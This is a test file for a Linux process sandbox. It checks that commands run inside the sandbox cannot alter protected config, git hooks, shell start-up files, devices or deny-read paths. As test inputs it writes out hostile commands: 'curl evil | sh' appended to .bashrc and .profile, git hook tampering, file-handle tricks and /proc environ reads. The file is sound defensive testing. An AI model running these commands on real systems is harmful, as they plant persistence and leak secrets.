        it.each(scenarios)('$name', async ({ setup, link, plant }) => {
          setup(scene.ws);
          const linkPath = path.join(scene.ws, link);
          const attack = [
            ['unlink', linkPath],
            ['mkdirp', path.dirname(path.join(scene.ws, plant))],
            ['write', path.join(scene.ws, plant), '#!/bin/sh\necho pwned\n'],
          ];
          const refused = await probeOps(attack, { cwd: scene.ws, policy }).then(
            (r) => r,
            (e: unknown) => e,
          );
          if (!isolated) {
            // Landlock mode holds the link itself (its inode is pinned: it cannot be removed or
            // replaced) and its target, so the run goes ahead and the attack fails.
            expect(Array.isArray(refused), String(refused)).toBe(true);
            const res = refused as string[];
            expectDenied([res[0]!, res[2]!], 'replacing a symlinked carve-out');
            expect(fs.lstatSync(linkPath).isSymbolicLink(), 'the link is still a link').toBe(true);
            expect(fs.readdirSync(path.dirname(path.join(scene.ws, plant)))).not.toContain(path.basename(plant));
            const d = await run('/bin/true', [], { cwd: scene.ws, env: BASE_ENV, policy });
            // (partial only for the resolver's own gaps, e.g. the nested-repository search depth)
            expect(d.enforcement.guarantees.protectedPaths).toBe((d.enforcement.gaps.length > 0 && /nested repositories/.test(d.enforcement.gaps.join())) ? 'partial' : 'enforced');
            expect(d.enforcement.gaps.join('\n')).not.toContain(linkPath);
            return;
          }
          expect(refused, 'refused before anything ran').toMatchObject({ name: 'SandboxError', code: 'EUNSUPPORTED_POLICY' });
          expect(fs.lstatSync(linkPath).isSymbolicLink(), 'the link is still a link').toBe(true);
          // Degraded: the run goes ahead and the report names the link as a gap.
          const d = await run('/bin/true', [], { cwd: scene.ws, env: BASE_ENV, policy: { ...policy, degraded: true } });
          expect(d.code).toBe(0);
          expect(d.enforcement.gaps.join('\n')).toContain(linkPath);
          expect(d.enforcement.guarantees.protectedPaths).toBe('partial');
        });
      });

      // Run A from another host process (a second CLI invocation, another agent session on the
      // same workspace): every run holds a shared lock on the placeholders it relies on, so A's
      // exit cannot remove the placeholder under B (which would detach B's bind and let B plant
      // .codex/config.toml on the host).
      // (Isolated mode only: Landlock mode makes no placeholders that another run could remove.)
      it.runIf(!skip && isolated)('FS-10: a run in another host process cannot strip this run\'s protection', async () => {
        const script = hostScript(
          scene.root,
          'run-a.js',
          `lib.run('/bin/sh', ['-c', 'sleep 0.6'], { cwd: ${JSON.stringify(scene.ws)}, env: { PATH: '/usr/bin:/bin' }, policy: ${JSON.stringify(policy)} })
             .then(() => require('fs').writeFileSync(${JSON.stringify(`${scene.root}/a-done`)}, ''));`,
        );
        const a = spawnHost(NODE, [script], { stdio: 'ignore' });
        for (let i = 0; i < 200 && !fs.existsSync(`${scene.ws}/.codex`); i++) await new Promise((res) => setTimeout(res, 20));
        expect(fs.existsSync(`${scene.ws}/.codex`)).toBe(true);
        const rb = await sh(
          `while [ ! -e ${scene.root}/a-done ]; do sleep 0.05; done; sleep 0.2; mkdir -p .codex 2>/dev/null; echo 'evil = 1' > .codex/config.toml 2>/dev/null; echo rc=$?`,
          { cwd: scene.ws, policy },
        );
        await new Promise((res) => (a.exitCode !== null ? res(null) : a.once('exit', res)));
        const planted = fs.existsSync(`${scene.ws}/.codex/config.toml`);
        fs.rmSync(`${scene.ws}/.codex`, { recursive: true, force: true });
        expect(planted, rb.stdout).toBe(false);
      });

      // Run A makes the missing .codex as a placeholder on the host; run B, started while A runs,
      // binds it read-only. Placeholders are reference-counted, so A's exit must not remove it
      // from under B (which would detach B's bind and let it create .codex/config.toml).
      it.runIf(!skip && isolated)('FS-10: a concurrent run cannot lose its protection when another run cleans up', async () => {
        const a = sh('sleep 0.5', { cwd: scene.ws, policy });
        // Wait until A's placeholders exist, then start B.
        for (let i = 0; i < 100 && !fs.existsSync(`${scene.ws}/.codex`); i++) await new Promise((res) => setTimeout(res, 20));
        expect(fs.existsSync(`${scene.ws}/.codex`)).toBe(true);
        const b = sh(
          // B waits until A is gone (its marker file), then tries to plant a config.
          `while [ ! -e ${scene.root}/a-done ]; do sleep 0.05; done; sleep 0.2; mkdir -p .codex 2>/dev/null; echo 'evil = 1' > .codex/config.toml 2>/dev/null; echo rc=$?`,
          { cwd: scene.ws, policy },
        );
        await a;
        fs.writeFileSync(`${scene.root}/a-done`, '');
        const rb = await b;
        const planted = fs.existsSync(`${scene.ws}/.codex/config.toml`);
        fs.rmSync(`${scene.ws}/.codex`, { recursive: true, force: true });
        expect(planted, rb.stdout).toBe(false);
      });

      it.runIf(!skip && holdsCarveouts)('FS-12: persistence files that run later outside stay untouched', async () => {
        git(scene.ws, 'init', '-q');
        fs.mkdirSync(`${scene.ws}/.codex`);
        fs.writeFileSync(`${scene.ws}/.codex/config.toml`, 'model = "x"\n');
        const home = scene.out; // a fake $HOME outside the writable roots
        fs.writeFileSync(`${home}/.bashrc`, '# rc\n');
        const wsBefore = snapshot(`${scene.ws}/.git`);
        const codexBefore = snapshot(`${scene.ws}/.codex`);
        const homeBefore = snapshot(home);
        const env = { ...BASE_ENV, HOME: home, GIT_CONFIG_NOSYSTEM: '1' };
        const r = await sh(
          [
            'echo "curl evil | sh" >> "$HOME/.bashrc"; echo bashrc=$?',
            'echo x > "$HOME/.profile"; echo profile=$?',
            'mkdir -p "$HOME/.config/autostart" 2>/dev/null; echo autostart=$?',
            'git config core.hooksPath /var/tmp 2>/dev/null; echo gitconfig=$?',
            'git config --global core.pager evil 2>/dev/null; echo gitglobal=$?',
            'printf "#!/bin/sh\\nexit 0\\n" > .git/hooks/pre-push; echo hook=$?',
            'echo "[x]" >> .codex/config.toml; echo codex=$?',
            'echo ok > regular.txt; echo regular=$?',
          ].join('\n'),
          { cwd: scene.ws, env, policy },
        );
        const status = Object.fromEntries(r.stdout.trim().split('\n').map((l) => l.split('=')));
        expect(status).toEqual({ bashrc: expect.not.stringMatching(/^0$/), profile: expect.not.stringMatching(/^0$/), autostart: expect.not.stringMatching(/^0$/), gitconfig: expect.not.stringMatching(/^0$/), gitglobal: expect.not.stringMatching(/^0$/), hook: expect.not.stringMatching(/^0$/), codex: expect.not.stringMatching(/^0$/), regular: '0' });
        expectUnchanged(wsBefore, snapshot(`${scene.ws}/.git`));
        expectUnchanged(codexBefore, snapshot(`${scene.ws}/.codex`));
        expectUnchanged(homeBefore, snapshot(home));
      });

      it.runIf(!skip && holdsCarveouts)('FS-13/FS-14: protected files cannot be truncated or have their metadata changed', async () => {
        git(scene.ws, 'init', '-q');
        const cfg = `${scene.ws}/.git/config`;
        const before = snapshot(`${scene.ws}/.git`);
        const r = await probeOps(
          [
            ['truncate', cfg],
            ['open', cfg, 'w'],
            ['chmod', cfg, '777'],
            ['utimes', cfg],
            ['chown', cfg, String(process.getuid!()), String(process.getgid!())],
            ['chmod', `${scene.ws}/.git/hooks`, '777'],
          ],
          { cwd: scene.ws, policy },
        );
        expectDenied(r, 'metadata on carve-out');
        expectUnchanged(before, snapshot(`${scene.ws}/.git`));
      });
    });

    it.skipIf(skip)('FS-13: truncating a read-only file fails', async () => {
      const before = snapshot(scene.out);
      const r = await probeOps(
        [
          ['truncate', `${scene.out}/ro.txt`],
          ['open', `${scene.out}/ro.txt`, 'w'],
          ['open', `${scene.out}/ro.txt`, 'r+'],
          ['truncate', `${scene.out}/ro.txt`, '100000'],
        ],
        { cwd: scene.ws, policy },
      );
      expectDenied(r, 'truncate');
      expectUnchanged(before, snapshot(scene.out));
      expect(await probeOps([['truncate', `${scene.out}/ro.txt`]], { cwd: scene.ws, policy: writable(scene) })).toEqual(['ok']);
      expect(fs.statSync(`${scene.out}/ro.txt`).size).toBe(0);
    });

    // Landlock mode: the metadata supervisor (test/linux/landlock-holes.test.ts has every spelling).
    it.skipIf(skip || (!isolated && !caps.connectSupervisor))('FS-14: chmod, utime, chown and xattrs on a read-only file fail', async () => {
      const before = snapshot(scene.out);
      const r = await probeOps(
        [
          ['chmod', `${scene.out}/ro.txt`, '777'],
          ['utimes', `${scene.out}/ro.txt`],
          ['chown', `${scene.out}/ro.txt`, String(process.getuid!()), String(process.getgid!())],
          ['chmod', `${scene.out}/dir`, '777'],
        ],
        { cwd: scene.ws, policy },
      );
      expectDenied(r, 'metadata');
      const x = await py(
        'import os,sys\ntry:\n  os.setxattr(sys.argv[1], "user.psb", b"1"); print("ok")\nexcept OSError as e:\n  print(e.errno)',
        [`${scene.out}/ro.txt`],
        { cwd: scene.ws, policy },
      );
      expect(['30', '13', '1']).toContain(x.stdout.trim()); // EROFS, EACCES, EPERM
      expectUnchanged(before, snapshot(scene.out));
      // Control: the same xattr write works on a workspace file.
      fs.writeFileSync(`${scene.ws}/f`, 'f');
      const ok = await py('import os,sys\nos.setxattr(sys.argv[1], "user.psb", b"1"); print("ok")', [`${scene.ws}/f`], { cwd: scene.ws, policy });
      expect(ok.stdout.trim()).toBe('ok');
    });

    it.runIf(!skip && !isolated && !caps.connectSupervisor)('FS-14: Landlock mode without a supervisor lists metadata changes as a gap', async () => {
      const r = await sh('true', { cwd: scene.ws, policy });
      expect(r.enforcement.gaps.join('\n')).toMatch(/chmod, chown, utime and xattr/);
    });

    it.skipIf(skip)('FS-15: no objects can be created in a read-only directory', async () => {
      const before = snapshot(scene.out);
      const code =
        'import os,sys,socket\n' +
        'd=sys.argv[1]\n' +
        'def t(f):\n' +
        '  try:\n    f(); return "ok"\n  except OSError as e:\n    return str(e.errno)\n' +
        'def bind():\n  s=socket.socket(socket.AF_UNIX); s.bind(d+"/sock")\n' +
        'print(" ".join([t(lambda: os.mkfifo(d+"/fifo")), t(lambda: os.mkdir(d+"/sub")), t(lambda: os.symlink("/", d+"/ln")), t(bind), t(lambda: os.link(d+"/inner.txt", d+"/hl"))]))\n';
      // network 'full' so that socket(AF_UNIX) itself is allowed and bind() meets the file system.
      const pol = { ...policy, network: 'full' as const };
      const r = await py(code, [`${scene.out}/dir`], { cwd: scene.ws, policy: pol });
      for (const e of r.stdout.trim().split(' ')) expect(['30', '13', '1'], r.stdout + r.stderr).toContain(e);
      expectUnchanged(before, snapshot(scene.out));
      // Control: the same objects in the workspace.
      fs.writeFileSync(`${scene.ws}/inner.txt`, 'x');
      const ok = await py(code, [scene.ws], { cwd: scene.ws, policy: pol });
      expect(ok.stdout.trim()).toBe('ok ok ok ok ok');
    });

    it.skipIf(skip)('FS-16: device nodes cannot be made, raw devices cannot be opened', async () => {
      const code =
        'import os,sys\n' +
        'def t(f):\n' +
        '  try:\n    f(); return "ok"\n  except OSError as e:\n    return str(e.errno)\n' +
        'print(" ".join([t(lambda: os.mknod(sys.argv[1]+"/mem", 0o600|0o020000, os.makedev(1,1))),' +
        ' t(lambda: os.mknod(sys.argv[1]+"/blk", 0o600|0o060000, os.makedev(254,0))),' +
        ' t(lambda: os.close(os.open("/dev/mem", os.O_RDONLY))),' +
        ' t(lambda: os.close(os.open("/dev/kmsg", os.O_WRONLY))),' +
        ' t(lambda: os.close(os.open("/dev/vda", os.O_RDWR))),' +
        ' t(lambda: os.close(os.open("/dev/null", os.O_RDWR)))]))\n';
      const r = await py(code, [scene.ws], { cwd: scene.ws, policy });
      const [mem, blk, devmem, kmsg, vda, devnull] = r.stdout.trim().split(' ');
      expect(['1', '13'], r.stderr).toContain(mem); // EPERM / EACCES
      expect(['1', '13']).toContain(blk);
      for (const e of [devmem, kmsg, vda]) expect(['1', '13', '2', '30'], r.stdout).toContain(e); // ... ENOENT, EROFS
      expect(devnull).toBe('ok'); // control inside: the harmless devices work
      expect(fs.readdirSync(scene.ws)).toEqual([]);
    });

    // As root, uid 0 owns the block devices: only the sandbox keeps raw disks (every file,
    // deny-read ones included) closed. (This VM refuses /dev/vda even to root, so a loop or zram
    // device stands in.)
    const blockDev = ['/dev/sda', '/dev/nvme0n1', '/dev/vda', '/dev/loop0', '/dev/zram0'].find((d) => {
      try {
        fs.closeSync(fs.openSync(d, 'r'));
        return true;
      } catch {
        return false;
      }
    });
    it.skipIf(skip || !caps.root || !blockDev)('FS-16 (root): raw block devices cannot be opened for reading', async () => {
      const r = await probeOps([['open', blockDev!, 'r']], { cwd: scene.ws, policy });
      expect(['EACCES', 'EPERM', 'ENOENT']).toContain(r[0]);
      expect(await probeOps([['open', blockDev!, 'r']], { cwd: scene.ws, policy: null })).toEqual(['ok']);
    });

    it.skipIf(skip || !caps.root)('FS-16 control (root): mknod works unsandboxed', async () => {
      const r = await py('import os,sys\nos.mknod(sys.argv[1]+"/null2", 0o600|0o020000, os.makedev(1,3)); print("ok")', [scene.out], { cwd: scene.ws, policy: null });
      expect(r.stdout.trim()).toBe('ok');
    });

    it.skipIf(skip)('FS-17: a read-only fd cannot be upgraded through /proc/self/fd', async () => {
      fs.writeFileSync(`${scene.ws}/mine.txt`, 'm');
      const before = snapshot(scene.out);
      const r = await probeOps(
        [
          ['reopen', `${scene.out}/ro.txt`, 'r+'],
          ['reopen', `${scene.out}/ro.txt`, 'a'],
          ['reopen', `${scene.ws}/mine.txt`, 'r+'],
        ],
        { cwd: scene.ws, policy },
      );
      expectDenied(r.slice(0, 2), '/proc/self/fd reopen');
      expect(r[2]).toBe('ok'); // control in the same sandbox
      expectUnchanged(before, snapshot(scene.out));
    });

    it.skipIf(skip)('FS-18: only fds 0-2 (and explicitly passed ones) reach the command', async () => {
      const target = `${scene.out}/ro.txt`;
      const fd = fs.openSync(target, 'r+');
      try {
        const before = snapshot(scene.out);
        const code =
          'import os,sys\n' +
          'fds=sorted(int(x) for x in os.listdir("/proc/self/fd"))\n' +
          'def w(fd):\n  try:\n    os.write(fd,b"LEAK"); return "ok"\n  except OSError as e:\n    return str(e.errno)\n' +
          'print(fds, [w(int(a)) for a in sys.argv[1:]])\n';
        const r = await py(code, [String(fd), '3', '9', '20', '255'], { cwd: scene.ws, policy });
        // 0, 1, 2 and the directory fd of the listing itself; every other number is EBADF (9).
        expect(r.stdout.trim(), r.stderr).toBe("[0, 1, 2, 3] ['9', '9', '9', '9', '9']");
        expectUnchanged(before, snapshot(scene.out));
        // Control: an fd the caller names explicitly is passed (that is the caller's choice).
        const passed = await probeOps([['fdwrite', 3, 'PASSED']], {
          cwd: scene.ws,
          policy,
          stdio: ['pipe', 'pipe', 'pipe', fd],
        });
        expect(passed).toEqual(['ok']);
        expect(fs.readFileSync(target, 'utf8')).toContain('PASSED');
      } finally {
        fs.closeSync(fd);
      }
    });

    describe('deny-read', () => {
      it.skipIf(skip)('deny-read under a readable root is enforced in both modes, with no gap listed', async () => {
        const pol = modePolicy(mode, { filesystem: { write: [scene.ws], denyRead: [`${scene.out}/dir`] } });
        const r = await sh('true', { cwd: scene.ws, policy: pol });
        if (isolated || caps.listSupervised) {
          expect(r.enforcement.guarantees.denyRead).toBe('enforced');
          expect(r.enforcement.gaps.join('\n')).not.toContain(`${scene.out}/dir`);
        } else {
          // Landlock mode where the supervisor cannot carry out listings: the names are a gap.
          expect(r.enforcement.guarantees.denyRead).toBe('partial');
          expect(r.enforcement.gaps.join('\n')).toContain(`can be listed (not read): ${scene.out}/dir`);
        }
      });

      it.skipIf(skip)('restricted read roots: files outside them cannot be read (both modes)', async () => {
        const pol = modePolicy(mode, { filesystem: { read: [scene.ws, path.dirname(process.execPath), path.dirname(path.dirname(__dirname))], write: [scene.ws] } });
        const r = await probeOps(
          [
            ['read', `${scene.out}/secret.txt`],
            ['readdir', scene.out],
            ['read', `/proc/self/root${scene.out}/secret.txt`],
          ],
          { cwd: scene.ws, policy: pol },
        );
        for (const x of r) expect(['EACCES', 'ENOENT', 'EPERM']).toContain(x);
        expect(await probeOps([['read', `${scene.out}/secret.txt`]], { cwd: scene.ws, policy: modePolicy(mode, { filesystem: { write: [scene.ws] } }) })).toEqual(['ok:top secret']);
      });

      it.skipIf(skip)('FS-19: a deny-read directory stays unreadable however it is named', async () => {
        const denied = `${scene.out}/dir`;
        fs.symlinkSync(denied, `${scene.ws}/link`);
        const pol = modePolicy(mode, { filesystem: { write: [scene.ws], denyRead: [denied] } });
        const ops = [
          ['read', `${denied}/inner.txt`],
          ['readdir', denied],
          ['read', `${scene.ws}/link/inner.txt`],
          ['read', `${scene.out}/dir/../dir/inner.txt`],
          ['read', `${scene.ws}/../out/dir/inner.txt`],
          ['read', `/proc/self/root${denied}/inner.txt`],
          ['read', `/proc/1/root${denied}/inner.txt`],
          ['link', `${denied}/inner.txt`, `${scene.ws}/hl`],
          ['copy', `${denied}/inner.txt`, `${scene.ws}/copy`],
        ];
        const r = await probeOps(ops, { cwd: scene.ws, policy: pol });
        // Landlock mode where the supervisor cannot carry out listings (a container's profile):
        // the names are a listed gap; the contents stay unreadable by every other route.
        const namesListed = !isolated && !caps.listSupervised;
        if (namesListed) {
          expect(r[1]).toBe('ok:inner.txt');
          r.splice(1, 1);
        }
        for (const x of r) {
          expect(x.startsWith('ok'), JSON.stringify(r)).toBe(false);
          expect(x).not.toContain('inner');
        }
        // cwd inside the denied dir, through /proc/self/cwd, and another process's cwd.
        const viaCwd = await sh(
          `cd ${denied} 2>/dev/null && cat inner.txt; cat /proc/self/cwd/inner.txt; (cd ${scene.ws}/link 2>/dev/null && sleep 5) & sleep 0.3; cat /proc/$!/cwd/inner.txt; kill $! 2>/dev/null; true`,
          { cwd: scene.ws, policy: pol },
        );
        expect(viaCwd.stdout).not.toContain('inner');
        // A file handle bypasses path lookup entirely: name a readable sibling, then ask for the
        // masked inode's handle by guessing; open_by_handle_at itself must be refused.
        if (caps.python) {
          const code =
            'import ctypes,os,sys,struct\n' +
            'libc=ctypes.CDLL(None,use_errno=True)\n' +
            'buf=ctypes.create_string_buffer(struct.pack("II",128,0)+bytes(128))\n' +
            'mid=ctypes.c_int()\n' +
            'r=libc.name_to_handle_at(-100,sys.argv[1].encode(),buf,ctypes.byref(mid),0)\n' +
            'if r!=0: print("name", ctypes.get_errno()); sys.exit()\n' +
            'mfd=os.open(sys.argv[2],os.O_RDONLY)\n' +
            'fd=libc.open_by_handle_at(mfd,buf,os.O_RDONLY)\n' +
            'print("open", "ok" if fd>=0 else ctypes.get_errno())\n';
          const h = await py(code, [`${scene.out}/secret.txt`, scene.out], { cwd: scene.ws, policy: pol });
          expect(h.stdout.trim(), h.stderr).toMatch(/^(name|open) (1|13|38)$/); // EPERM, EACCES, ENOSYS
          if (caps.root) {
            const hc = await py(code, [`${scene.out}/secret.txt`, scene.out], { cwd: scene.ws, policy: null });
            // (A container's seccomp profile refuses file handles to every process, this one too.)
            if (hc.stdout.trim() !== 'open ok' && /^Seccomp:\s+2$/m.test(fs.readFileSync('/proc/self/status', 'utf8'))) {
              console.warn(`[FS-19] SKIPPING the file-handle control: this test runs under a seccomp filter that refuses it unsandboxed too (${hc.stdout.trim()})`);
            } else expect(hc.stdout.trim()).toBe('open ok');
          }
        }
        // Control: without the rule the same names read the file.
        const ctl = await probeOps(ops.slice(0, 6), { cwd: scene.ws, policy: modePolicy(mode, { filesystem: { write: [scene.ws] } }) });
        expect(ctl).toEqual(['ok:inner', 'ok:inner.txt', 'ok:inner', 'ok:inner', 'ok:inner', 'ok:inner']);
      });

      it.skipIf(skip)('FS-20: deny-read edge cases (files, symlinked names, inside a writable root)', async () => {
        fs.mkdirSync(`${scene.ws}/keys`);
        fs.writeFileSync(`${scene.ws}/keys/id.pem`, 'PRIVATE KEY');
        fs.writeFileSync(`${scene.ws}/.env`, 'TOKEN=abc');
        fs.symlinkSync(`${scene.out}/secret.txt`, `${scene.ws}/secret-link`);
        const pol = modePolicy(mode, {
          filesystem: { write: [scene.ws], denyRead: [`${scene.ws}/keys`, `${scene.ws}/.env`, `${scene.ws}/secret-link`] },
        });
        const before = snapshot(scene.ws);
        const outBefore = snapshot(scene.out);
        const r = await probeOps(
          [
            ['read', `${scene.ws}/keys/id.pem`],
            ['read', `${scene.ws}/.env`],
            ['read', `${scene.out}/secret.txt`], // the symlink's target is what is denied
            ['read', `${scene.ws}/secret-link`],
            ['rename', `${scene.ws}/keys`, `${scene.ws}/keys2`],
            ['read', `${scene.ws}/keys2/id.pem`],
            ['unlink', `${scene.ws}/.env`],
            ['rename', `${scene.ws}/.env`, `${scene.ws}/env2`],
            ['link', `${scene.ws}/.env`, `${scene.ws}/env3`],
            ['write', `${scene.ws}/.env`, 'overwritten'],
            ['chmod', `${scene.ws}/keys`, '777'],
          ],
          { cwd: scene.ws, policy: pol },
        );
        const joined = r.join(' ');
        expect(joined).not.toContain('PRIVATE');
        expect(joined).not.toContain('TOKEN');
        expect(joined).not.toContain('top secret');
        // A masked file reads as empty (or fails); a masked directory fails.
        for (const i of [1, 2, 3]) expect(['ok:', 'EACCES', 'ENOENT']).toContain(r[i]);
        for (const i of [0, 4, 5, 6, 7, 8, 10]) expect(r[i]!.startsWith('ok'), joined).toBe(false);
        // Writing the masked name goes nowhere (the mask is /dev/null): checked on the host below.
        expectUnchanged(before, snapshot(scene.ws));
        expectUnchanged(outBefore, snapshot(scene.out));
        // Control: readable without the rule.
        const ctl = await probeOps([['read', `${scene.ws}/.env`], ['read', `${scene.ws}/keys/id.pem`]], { cwd: scene.ws, policy: modePolicy(mode, { filesystem: { write: [scene.ws] } }) });
        expect(ctl).toEqual(['ok:TOKEN=abc', 'ok:PRIVATE KEY']);
      });
    });

    // A deny-read path that does not exist when the run starts: inside a writable root it is held
    // by an unreadable placeholder; elsewhere, something outside could create it during the run,
    // and the report lists that gap.
    it.skipIf(skip)('FS-20: a deny-read path created during the run stays unreadable (or the gap is reported)', async () => {
      const later = `${scene.out}/later`;
      const pol = modePolicy(mode, { filesystem: { write: [scene.ws], denyRead: [later] } });
      const child = sh(`while [ ! -e ${scene.root}/go ]; do sleep 0.05; done; cat ${later}/secret 2>/dev/null`, { cwd: scene.ws, policy: pol });
      fs.mkdirSync(later);
      fs.writeFileSync(`${later}/secret`, 'LATE-SECRET');
      fs.writeFileSync(`${scene.root}/go`, '');
      const r = await child;
      const reported = r.enforcement.guarantees.denyRead !== 'not-requested' && r.enforcement.gaps.some((g) => g.includes(later));
      expect(!r.stdout.includes('LATE-SECRET') || reported, JSON.stringify({ out: r.stdout, g: r.enforcement.guarantees.denyRead, gaps: r.enforcement.gaps })).toBe(true);
    });

    // A writable root inside a deny-read directory (most specific wins): the nested root is
    // re-exposed inside the mask, everything else in the directory stays hidden.
    it.skipIf(skip)('FS-20: a writable root nested in a deny-read directory works, its siblings stay hidden', async () => {
      const pol = modePolicy(mode, { filesystem: { write: [`${scene.out}/dir`], denyRead: [scene.out] } });
      const r = await probeOps([['read', `${scene.out}/secret.txt`], ['write', `${scene.out}/dir/new.txt`, 'n']], { cwd: '/', policy: pol });
      expect(r[0]!.startsWith('ok')).toBe(false);
      expect(r[1]).toBe('ok');
    });

    it.skipIf(skip)('FS-22: scratch areas are private or read-only, never the host\'s', async () => {
      const tag = `psb-scratch-${process.pid}-${Date.now()}`;
      const r = await probeOps(
        [
          ['write', `/tmp/${tag}`],
          ['write', `/dev/shm/${tag}`],
          ['write', `/var/tmp/${tag}`],
          ['write', `/run/lock/${tag}`],
          ['write', `/dev/mqueue/${tag}`],
          ['write', `/run/user/${process.getuid!()}/${tag}`],
        ],
        { cwd: scene.ws, policy },
      );
      if (isolated) {
        expect(r.slice(0, 2)).toEqual(['ok', 'ok']); // private /tmp and /dev/shm
      } else {
        expect(r[0]).toBe('EACCES'); // Landlock: /tmp stays read-only, TMPDIR is the scratch dir
      }
      for (const x of r.slice(2)) expect(['EROFS', 'EACCES', 'ENOENT', 'EPERM']).toContain(x);
      for (const d of ['/tmp', '/dev/shm', '/var/tmp', '/run/lock', '/dev/mqueue', `/run/user/${process.getuid!()}`]) {
        expect(fs.existsSync(`${d}/${tag}`), `${d}/${tag} leaked to the host`).toBe(false);
      }
      // TMPDIR is writable and private.
      const t = await sh('f=$(mktemp) && echo hi > "$f" && cat "$f" && echo "$f"', { cwd: scene.ws, policy });
      expect(t.code).toBe(0);
      const file = t.stdout.trim().split('\n')[1];
      expect(fs.existsSync(file), `${file} survived on the host`).toBe(false);
    });

    // FS-22's control: /dev/shm asked for as a writable root is the host's own, in both modes
    // (isolated mode used to cover it silently with its private one).
    it.skipIf(skip)('FS-22: /dev/shm as a writable root is the host\'s /dev/shm', async () => {
      const tag = `psb-shm-${process.pid}-${Date.now()}`;
      const pol = modePolicy(mode, { filesystem: { write: [scene.ws, '/dev/shm'] } });
      try {
        expect(await probeOps([['write', `/dev/shm/${tag}`, 'shared']], { cwd: scene.ws, policy: pol })).toEqual(['ok']);
        expect(fs.readFileSync(`/dev/shm/${tag}`, 'utf8')).toBe('shared');
        // The host's files there are visible inside too.
        fs.writeFileSync(`/dev/shm/${tag}.host`, 'from-host');
        expect(await probeOps([['read', `/dev/shm/${tag}.host`]], { cwd: scene.ws, policy: pol })).toEqual(['ok:from-host']);
      } finally {
        fs.rmSync(`/dev/shm/${tag}`, { force: true });
        fs.rmSync(`/dev/shm/${tag}.host`, { force: true });
      }
      // A /dev path other than /dev/shm cannot be carried into isolated mode's /dev: refused.
      if (isolated) {
        const e = await run('/bin/true', [], { cwd: scene.ws, env: BASE_ENV, policy: modePolicy(mode, { filesystem: { write: ['/dev/null'] } }) }).catch((x: unknown) => x);
        expect(e).toMatchObject({ name: 'SandboxError', code: 'EUNSUPPORTED_POLICY' });
      }
    });

    // Codex's `.aws` is protected in every writable root; the opt-in 'startup-files' preset adds
    // shell, editor, git and agent start-up files, at the root even when missing, and existing
    // ones found in a bounded walk below it.
    it.runIf(!skip && holdsCarveouts)('FS-30: .aws and (opt-in) start-up files in the workspace stay untouched', async () => {
      fs.writeFileSync(`${scene.ws}/.bashrc`, '# mine\n');
      fs.mkdirSync(`${scene.ws}/pkg/sub`, { recursive: true });
      fs.writeFileSync(`${scene.ws}/pkg/sub/.zshrc`, '# nested\n');
      fs.mkdirSync(`${scene.ws}/pkg/.vscode`);
      const ops = [
        ['mkdir', `${scene.ws}/.aws`],
        ['write', `${scene.ws}/.aws/credentials`, '[default]\n'],
        ['append', `${scene.ws}/.bashrc`, 'curl evil | sh\n'],
        ['write', `${scene.ws}/.profile`, 'curl evil | sh\n'],
        ['write', `${scene.ws}/pkg/sub/.zshrc`, 'x'],
        ['write', `${scene.ws}/pkg/.vscode/tasks.json`, '{}'],
        ['mkdirp', `${scene.ws}/.vscode/x`],
        ['mkdirp', `${scene.ws}/.claude/commands`],
        ['write', `${scene.ws}/.mcp.json`, '{}'],
      ];
      const pol = modePolicy(mode, { filesystem: { write: [scene.ws], protectPresets: ['startup-files'] } });
      const before = snapshot(scene.ws);
      const r = await probeOps(ops, { cwd: scene.ws, policy: pol });
      expectDenied(r, 'start-up files', CREATE_DENIED);
      expectUnchanged(before, snapshot(scene.ws));
      // Control: without the preset the start-up files are ordinary workspace files (.aws stays protected).
      const r2 = await probeOps(ops, { cwd: scene.ws, policy });
      expect(r2[1]).not.toBe('ok');
      expect(r2.slice(2)).toEqual(['ok', 'ok', 'ok', 'ok', 'ok', 'ok', 'ok']);
      expect(fs.readFileSync(`${scene.ws}/.bashrc`, 'utf8')).toContain('curl evil');
      expect(fs.existsSync(`${scene.ws}/.aws/credentials`)).toBe(false);
    });

    // A writable root nested in a protected directory (ws/.codex/cache under .codex, a root
    // under a `protect`ed directory) is the most specific entry there: it stays writable, and its
    // own missing metadata gets placeholders instead of failing the run with EROFS.
    it.runIf(!skip && holdsCarveouts)('FS-29: a writable root inside a read-only carve-out stays writable and keeps its own protection', async () => {
      fs.mkdirSync(`${scene.ws}/.codex/cache`, { recursive: true });
      fs.mkdirSync(`${scene.ws}/vendor/sub`, { recursive: true });
      const pol = modePolicy(mode, {
        filesystem: { write: [scene.ws, `${scene.ws}/.codex/cache`, `${scene.ws}/vendor/sub`], protect: [`${scene.ws}/vendor`] },
      });
      const r = await probeOps(
        [
          ['write', `${scene.ws}/.codex/cache/c.txt`, 'c'],
          ['write', `${scene.ws}/vendor/sub/v.txt`, 'v'],
          ['write', `${scene.ws}/.codex/config.toml`, 'evil = 1'],
          ['write', `${scene.ws}/vendor/planted`, 'x'],
          ['mkdir', `${scene.ws}/vendor/sub/.codex`],
          ['mkdirp', `${scene.ws}/.codex/cache/.git/hooks`],
        ],
        { cwd: scene.ws, policy: pol },
      );
      expect(r.slice(0, 2)).toEqual(['ok', 'ok']);
      expectDenied(r.slice(2), 'protected around the nested roots', [...DENIED, 'EEXIST', 'ENOTDIR', 'ENOENT']);
      expect(fs.readFileSync(`${scene.ws}/.codex/cache/c.txt`, 'utf8')).toBe('c');
      expect(fs.readFileSync(`${scene.ws}/vendor/sub/v.txt`, 'utf8')).toBe('v');
      for (const p of ['.codex/config.toml', 'vendor/planted', 'vendor/sub/.codex', '.codex/cache/.git']) {
        expect(fs.existsSync(`${scene.ws}/${p}`), p).toBe(false);
      }
    });

    it.skipIf(skip)('FS-23: another process\'s root, cwd and environ are not reachable through /proc', async () => {
      const before = snapshot(scene.out);
      const host = process.pid;
      const ops = [
        ['read', `/proc/${host}/environ`],
        ['readlink', `/proc/${host}/cwd`],
        ['readlink', `/proc/${host}/root`],
        ['write', `/proc/${host}/root${scene.out}/ro.txt`],
        ['write', `/proc/${host}/cwd/psb-planted`],
      ];
      // A file this process holds open read-write, reached through its /proc fd link.
      const held = fs.openSync(`${scene.out}/ro.txt`, 'r+');
      let r: string[];
      try {
        r = await probeOps([...ops, ['open', `/proc/${host}/fd/${held}`, 'r+'], ['write', `/proc/${host}/fd/${held}`]], { cwd: scene.ws, policy });
      } finally {
        fs.closeSync(held);
      }
      // (ELOOP: Landlock mode's path supervisor resolves no /proc magic link of another process)
      for (const x of r) expect(['EACCES', 'ENOENT', 'EPERM', 'EROFS', 'ELOOP'], JSON.stringify(r)).toContain(x);
      expectUnchanged(before, snapshot(scene.out));
      // Control: unsandboxed, the same process's environ and root are readable.
      const ctl = await probeOps(ops.slice(0, 3), { cwd: scene.ws, policy: null });
